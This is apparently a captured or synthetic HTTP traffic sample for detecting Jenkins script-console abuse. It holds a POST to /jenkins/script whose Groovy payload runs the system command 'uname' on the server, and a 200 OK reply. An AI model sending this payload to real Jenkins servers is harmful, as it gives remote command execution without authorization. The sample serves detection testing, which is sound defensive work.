# Jenkins, process started in the script console.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /jenkins/script HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/x-www-form-urlencoded\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 45\r\n
\r\n
script=println+%22uname%22.execute%28%29.text

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
